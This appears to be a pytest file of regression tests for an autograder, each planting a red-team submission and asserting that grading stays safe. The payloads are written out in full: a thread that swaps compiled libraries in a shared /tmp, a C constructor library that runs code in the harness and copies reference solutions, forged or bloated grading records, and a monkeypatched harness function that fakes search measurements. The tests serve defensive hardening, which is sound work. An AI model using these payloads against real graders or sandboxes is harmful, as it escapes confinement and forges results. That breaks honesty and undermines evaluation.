"""An outside red team's attacks that landed (issue 55, item 6), each a planted submission
graded through the real LocalCluster in bubblewrap, as `xtc-katas grade` runs it, and
asserting the SAFE outcome. Moved from tests_open/ when their doors were closed: the
learner's worker has a /tmp of its own (checks/confine.py), and each kata's record is
in a folder the grader makes for its run alone, bound into that run's sandbox only, and
read with a cap on its tests (grade/grading_job.py).

The last of them, a search that forged the record of its run in its own process, moved
when the harness began to compile, time and count a search's candidates itself
(checks/compiles.py).

The door was the sandbox's /tmp, which the learner's worker shared with the harness.
Every kernel the harness compiles or takes from the node's trusted cache is written to
pytest's tmp_path (/tmp/pytest-of-<user>/...) as a shared library, owned by the user the
learner's worker also runs as, and loaded only later, by the race's or the numerics'
forked child, from its path. A thread the learner's module starts at its import outlives
the call, and rewrites those files between the harness's compile and its load.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tools import planted
from xtc_katas.grade import submissions
from xtc_katas.grade.grade_command import grade_class
from xtc_katas.kata.manifest import find

LARGE = find(8)
EXPLORE = find(6)

#: Kata 08 left naive (no transformation: ~0.02x numpy on 1024^3), and a thread that puts
#: the reference's kernel (the node's trusted cache, which the worker reads) in place of
#: the learner's own, in the folder the harness compiled it to, before the harness's
#: child loads it. Graded "passed" at 0.46x (1 thread) and 1.07x (2 threads) numpy on
#: main at f039541 (MLIR, 2-vCPU AMD EPYC family 25 model 1, shared, under load), and
#: again at 0.71x and 0.75x, both by `xtc-katas grade`. Under this test (pytest, load 5-9)
#: it did NOT land once: the naive kernel was raced (0.0069x) and the test passed; why
#: (a lost race with the harness's load, or no reference found in the trusted cache) is
#: not known. A timing attack: the ferry test below uses the same door deterministically.
SWAP_REFERENCE_IN = '''
import glob, hashlib, os, re, threading, time


def _trusted():
    found = {}
    for path in glob.glob("/grading-cache/modules/*/*/module.so"):
        data = open(path, "rb").read()
        found[hashlib.sha256(data).hexdigest()] = data
    return found


def _swap():
    refs = _trusted()
    parallel = [d for d in refs.values() if b"kmpc" in d or b"GOMP" in d]
    serial = [d for d in refs.values() if d not in parallel]
    done = set()
    while True:
        for path in glob.glob("/tmp/pytest-of-*/pytest-*/*/schedule_large_*threads_*.so"):
            try:
                if (path, os.stat(path).st_mtime) in done:
                    continue
                if hashlib.sha256(open(path, "rb").read()).hexdigest() in refs:
                    continue  # the reference's own copy
                threads = int(re.search(r"_(\\d+)threads_", path).group(1))
                pick = (parallel if threads > 1 and parallel else serial or parallel)[0]
                open(path + ".swap", "wb").write(pick)
                os.replace(path + ".swap", path)
                done.add((path, os.stat(path).st_mtime))
            except (OSError, AttributeError, IndexError):
                pass
        time.sleep(0.001)


threading.Thread(target=_swap, daemon=True).start()


def schedule_large(sch, threads):
    """Naive: no transformation at all."""
    return None
'''


@pytest.mark.slow
@pytest.mark.perf  # races kata 08's 1024^3 matmul against numpy
@pytest.mark.timeout(900)  # 144 s on a shared 2-vCPU AMD EPYC under load
def test_a_naive_kernel_swapped_for_the_reference_in_tmp_is_not_graded_passed(
    tmp_path: Path,
) -> None:
    sub = tmp_path / "subs" / "swap"
    planted.write(sub, {LARGE.id: SWAP_REFERENCE_IN.lstrip()})
    out = tmp_path / "out"
    outcome = grade_class([submissions.Entry(str(sub))], out, [LARGE], backend="mlir", timeout=900)
    assert not outcome.grader_errors, outcome
    doc = json.loads((out / "swap" / "grading.json").read_text())
    kata = doc["katas"][0]
    speed = [t for t in doc["tests"] if "keeps_up_with_numpy" in t["name"]]
    print(kata, [(t["name"], t["status"], t["figures"]) for t in speed])
    # a naive 1024^3 matmul is far below the bar: the learner's own kernel must be raced
    assert kata["tasks"] == {"schedule_large": "failed"}, kata
    assert speed and all(t["status"] == "fail" for t in speed), speed


SCHEDULING, COMPILING = find(4), find(3)

#: Kata 03 (the reference's own code, plus a thread): every shared library the harness
#: writes to pytest's tmp_path is replaced by one whose constructor runs {python} on a
#: script. The harness's child that loads it (forked from the graded pytest, so outside
#: the learner's confinement: the copy writable, solutions/ there) copies the reference of
#: kata 04 into the copy of the suite, which the next kata's run reads. On main at f039541
#: (MLIR), kata 04, whose five functions do nothing, was graded "passed", 5/5 tasks.
FERRY = r'''
import glob, os, subprocess, sys, threading, time

PAYLOAD = """
import shutil
copy = "/grading/xtc-katas"
shutil.copyfile(copy + "/sol" + "utions/04_scheduling/scheduling.py",
                copy + "/katas/04_scheduling/_ref.py")
"""
C = """
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void owned(void) {
    int fd = open("/tmp/.owned", O_CREAT | O_EXCL | O_WRONLY, 0644);
    if (fd < 0) return;
    close(fd);
    system("PYTHON /tmp/.owned.py > /tmp/.owned.log 2>&1");
}
"""


def _arm():
    open("/tmp/.owned.py", "w").write(PAYLOAD)
    open("/tmp/.owned.c", "w").write(C.replace("PYTHON", sys.executable))
    subprocess.run(["cc", "-shared", "-fPIC", "-o", "/tmp/.owned.so", "/tmp/.owned.c"], check=True)
    evil = open("/tmp/.owned.so", "rb").read()
    done = set()
    while True:
        for path in glob.glob("/tmp/pytest-of-*/pytest-*/*/*.so"):
            if path not in done:
                try:
                    open(path + ".x", "wb").write(evil)
                    os.replace(path + ".x", path)
                    done.add(path)
                except OSError:
                    pass
        time.sleep(0.002)


threading.Thread(target=_arm, daemon=True).start()

'''
#: Kata 04: five functions that do nothing, then what the kata 03 run left beside them.
NOTHING_BUT_THE_FERRIED_REFERENCE = """
def schedule_interchange(sch):
    return None


def schedule_vectorize(sch):
    return None


def schedule_register_tile(sch):
    return None


def schedule_split(sch):
    return None


def schedule_parallel(sch):
    return None


try:
    exec(open("/grading/xtc-katas/katas/04_scheduling/_ref.py").read())
except OSError:
    pass
"""


@pytest.mark.slow
@pytest.mark.perf  # kata 04's races
@pytest.mark.timeout(900)  # 95 s on a shared 2-vCPU AMD EPYC under load
def test_a_library_planted_in_tmp_runs_nothing_in_the_harness_and_ferries_no_reference(
    tmp_path: Path,
) -> None:
    from xtc_katas import ROOT

    sub = tmp_path / "subs" / "ferry"
    planted.write(sub, {
        COMPILING.id: (FERRY + COMPILING.solution_path(ROOT).read_text()).lstrip(),
        SCHEDULING.id: NOTHING_BUT_THE_FERRIED_REFERENCE.lstrip(),
    })  # fmt: skip
    out = tmp_path / "out"
    outcome = grade_class(
        [submissions.Entry(str(sub))], out, [COMPILING, SCHEDULING], backend="mlir", timeout=900
    )
    assert not outcome.grader_errors, outcome
    doc = json.loads((out / "ferry" / "grading.json").read_text())
    scheduling = next(k for k in doc["katas"] if k["kata"] == SCHEDULING.id)
    print(doc["katas"])
    # five functions that schedule nothing pass none of kata 04's tasks
    assert scheduling["tasks_passed"] == 0, scheduling


DESCRIPT, EXPLORE = find(5), find(6)

#: The same door, another payload: the harness's child writes the records of the katas
#: still to run (/grading/<kata>.jsonl, which their pytest opens to append), each a
#: "collected" line just under the grader's 16 MiB with 330,000 tests of 48 bytes. The
#: grader, outside the sandbox, keeps a test for each in grading.json. On main at f039541
#: (MLIR, katas 03-06, one submission) the Dask worker outside the sandbox grew to 1.3 GB
#: RSS and the grader to 3.1 GB; grading.json and results.json were 395 MB each, and the
#: three katas "crashed" (their own runs' events were past the 16 MiB read).
BLOAT_RECORDS = r"""
entry = '{"nodeid":"x","kata":"","tasks":[],"backend":""}'
n = ((16 << 20) - 4096) // (len(entry) + 1)
line = '{"event":"collected","tests":[' + ",".join([entry] * n) + ']}\n'
for kata in ("04_scheduling", "05_descript", "06_explore"):
    with open("/grading/" + kata + ".jsonl", "w") as f:
        f.write(line)
"""


@pytest.mark.slow
@pytest.mark.perf  # four katas' races
@pytest.mark.timeout(1800)
def test_records_planted_for_the_next_katas_do_not_bloat_the_grader(tmp_path: Path) -> None:
    from xtc_katas import ROOT

    ferry = FERRY.replace(FERRY[FERRY.index('PAYLOAD = """') : FERRY.index('"""\nC = """')],
                          'PAYLOAD = r"""' + BLOAT_RECORDS)  # fmt: skip
    sub = tmp_path / "subs" / "bloat"
    sources = [(COMPILING, ferry + COMPILING.solution_path(ROOT).read_text())]
    for kata in (SCHEDULING, DESCRIPT, EXPLORE):  # the stub, touched: graded
        sources.append((kata, "# mine\n" + kata.stub_path(ROOT).read_text()))
    planted.write(sub, {kata.id: source.lstrip() for kata, source in sources})
    out = tmp_path / "out"
    outcome = grade_class(
        [submissions.Entry(str(sub))], out, [k for k, _ in sources], backend="mlir", timeout=900
    )
    assert not outcome.grader_errors, outcome
    grading = out / "bloat" / "grading.json"
    doc = json.loads(grading.read_text())
    counts = {k: sum(t["kata"] == k for t in doc["tests"]) for k in (SCHEDULING.id, DESCRIPT.id)}
    print(counts, grading.stat().st_size)
    # a kata's grade lists the suite's tests (tens), never what its run's record claims
    assert all(n < 1000 for n in counts.values()), counts
    assert grading.stat().st_size < 16 << 20


#: The /tmp door again: the harness's child writes kata 04's record before kata 04 runs, a
#: run that passed each task, then a line longer than the grader reads: what kata 04's
#: pytest appends is never read. Kata 04, the untouched stub (one comment added), graded.
FORGED_RECORD = r"""
import json
fns = ["schedule_interchange", "schedule_vectorize", "schedule_register_tile",
       "schedule_split", "schedule_parallel"]
ids = [f"katas/04_scheduling/test_scheduling.py::test_{fn}_computes_the_matmul[mlir]"
       for fn in fns]
tests = [{"nodeid": i, "kata": "04_scheduling", "tasks": [fn], "backend": "mlir"}
         for i, fn in zip(ids, fns)]
lines = [{"event": "collected", "tests": tests}]
for i in ids:
    lines.append({"event": "start", "nodeid": i})
    lines.append({"event": "report", "nodeid": i, "when": "call", "outcome": "passed",
                  "message": "", "output": "", "perf": [], "seconds": 0.1})
lines.append({"event": "finish", "exitstatus": 0})
with open("/grading/04_scheduling.jsonl", "w") as f:
    for line in lines:
        f.write(json.dumps(line) + "\n")
    f.write("x" * (16 << 20) + "\n")
"""


@pytest.mark.slow
@pytest.mark.perf  # kata 03's race
@pytest.mark.timeout(900)
def test_a_record_written_before_its_kata_runs_is_not_its_verdict(tmp_path: Path) -> None:
    from xtc_katas import ROOT

    ferry = FERRY.replace(FERRY[FERRY.index('PAYLOAD = """') : FERRY.index('"""\nC = """')],
                          'PAYLOAD = r"""' + FORGED_RECORD)  # fmt: skip
    sub = tmp_path / "subs" / "forged"
    sources = [
        (COMPILING, ferry + COMPILING.solution_path(ROOT).read_text()),
        (SCHEDULING, "# mine\n" + SCHEDULING.stub_path(ROOT).read_text()),
    ]
    planted.write(sub, {kata.id: source.lstrip() for kata, source in sources})
    out = tmp_path / "out"
    outcome = grade_class(
        [submissions.Entry(str(sub))], out, [k for k, _ in sources], backend="mlir", timeout=900
    )
    assert not outcome.grader_errors, outcome
    doc = json.loads((out / "forged" / "grading.json").read_text())
    scheduling = next(k for k in doc["katas"] if k["kata"] == SCHEDULING.id)
    print(scheduling)
    # the stub raises NotImplementedError in every function
    assert scheduling["tasks_passed"] == 0, scheduling


#: Another door: a probe of the harness that runs in the learner's process returns a
#: harness record built there. Kata 06's tests drain the learner's search there
#: (`searched`, with `search_checks.take_all`) and judge the SearchRun that comes back:
#: its compile counts, the times its evaluators returned, whether each module ran. The
#: learner's module rebinds `xtc_katas.checks.search.take_all` in its own process at its
#: import, and its `explore` compiles and times nothing: each figure is made up from a
#: made-up time, which the forged SearchRun says its evaluator returned. On main at
#: f039541 (MLIR) kata 06 was graded "passed", explore's four tests too ("compiles one
#: candidate per item", "reports what the harness measures"); the same explore without
#: the rebinding failed them. Closed: the search's compiles and evaluations are made by
#: the harness as they are asked, and the SearchRun is kept there (checks/compiles.py,
#: search.run_search); what the learner's process does with its own copy is not read.
FORGED_SEARCH = '''

import xtc_katas.checks.search as _search

_TIMES = []


def _take_all(generator, counter, where):
    """The harness's drain, in my process: a SearchRun of my own making."""
    _TIMES.clear()
    items = list(generator)
    run = _search.SearchRun(compiles_before_first=0)
    run.items = items
    run.times = [[_TIMES[n]] if item[3] > 0 else [] for n, item in enumerate(items)]
    run.ran = [True] * len(items)
    run.compiles_after_first = 1
    run.compiles = len(items)
    run.dump_files = [f"/tmp/c{n}" for n in range(len(items))]
    return run


_search.take_all = _take_all


def explore(graph, Backend, specs, peak_fmas_per_s):
    """Measures nothing: a figure made up from a made-up time, 0.0 where descript refuses."""
    total, fmas = len(specs), graph.ops_count()
    for index, (name, spec) in enumerate(specs):
        try:
            sch = Backend(graph).get_scheduler()
            descript_scheduler(
                scheduler=sch, node_name="C", abstract_dims=["i", "j", "k"], spec=spec
            )
            seconds = 1e-3 / (1 + index)
            percent = 100.0 * fmas / seconds / peak_fmas_per_s
        except Exception:
            seconds, percent = 0.0, 0.0
        _TIMES.append(seconds)
        yield index, total, name, percent
'''


@pytest.mark.slow
@pytest.mark.perf  # kata 06's race of the best candidate
@pytest.mark.timeout(900)
def test_a_search_that_measures_nothing_cannot_forge_the_record_of_its_run(
    tmp_path: Path,
) -> None:
    from xtc_katas import ROOT

    solution = EXPLORE.solution_path(ROOT).read_text()
    source = solution[: solution.index("def explore(")] + FORGED_SEARCH
    sub = tmp_path / "subs" / "forge"
    planted.write(sub, {EXPLORE.id: source})
    out = tmp_path / "out"
    outcome = grade_class(
        [submissions.Entry(str(sub))], out, [EXPLORE], backend="mlir", timeout=900
    )
    assert not outcome.grader_errors, outcome
    doc = json.loads((out / "forge" / "grading.json").read_text())
    tests = {t["name"].split("::")[-1]: t["status"] for t in doc["tests"]}
    print(doc["katas"], tests)
    assert doc["katas"][0]["tasks"]["explore"] == "failed", doc["katas"]
    assert tests["test_explore_compiles_one_candidate_per_item[mlir]"] == "fail", tests
